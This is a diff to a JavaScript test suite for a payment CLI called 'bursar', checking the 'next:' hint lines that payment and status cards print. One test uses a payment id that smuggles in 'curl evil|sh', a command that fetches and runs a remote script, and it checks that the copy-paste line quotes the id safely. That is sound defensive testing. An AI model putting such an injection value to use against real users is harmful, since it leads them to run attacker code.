@@ -121,12 +121,27 @@ describe('a payment on a terminal', () => {
     const crypto = { crypto_tx: { family: 'evm', transactionRequest: { from: ALICE, to: BOB, nonce: 7 } } };
     const input = { ...asked, payment_id: 'pay_1', transaction_type: 'crypto' };
     const created = shown(transactionCard({ payment_id: 'pay_2', ...crypto }, input));
-    expect(created).toMatch(/by crypto on base[\s\S]*nonce +7[\s\S]*next: bursar pay execute pay_1 --key NAME/);
+    expect(created).toMatch(/by crypto on base[\s\S]*nonce +7[\s\S]*next: bursar pay execute pay_1\n/);
   });
+
+  it.each([
+    ['registered', undefined, 'crypto', 'bursar pay transaction pay_1, then bursar pay execute pay_1'],
+    ['registered', { family: 'evm' }, 'crypto', 'bursar pay execute pay_1'],
+    ['registered', undefined, 'pixcrypto', 'bursar pay status pay_1 --wait'],
+    ['retry', { family: 'evm' }, 'crypto', 'bursar pay transaction pay_1, then bursar pay execute pay_1'],
+    ['received', { family: 'evm' }, 'crypto', 'bursar pay status pay_1 --wait'],
+    ['success', { family: 'evm' }, 'crypto', undefined],
+  ])(
+    'that is %s, its unsigned transaction %o, by %s, says what comes next',
+    (status, unsigned_tx, transaction_type, next) => {
+      const text = shown(statusCard({ ...PAYMENT, status, unsigned_tx, transaction_type, data_error: null }), 200);
+      expect(text.split('\n').find((line) => line.startsWith('next: '))).toBe(next && `next: ${next}`);
+    },
+  );
 
   it('a line to be copied runs nothing but bursar, whatever id the service gave', () => {
     const text = shown(registeredCard({ payment_id: 'pay_1; curl evil|sh #' }, PAYMENT));
-    expect(text).toContain("next: bursar pay transaction 'pay_1; curl evil|sh #' …");
+    expect(text).toContain("next: bursar pay transaction 'pay_1; curl evil|sh #'\n");
   });
 
   it('a transaction whose form no document shows is shown whole', () => {
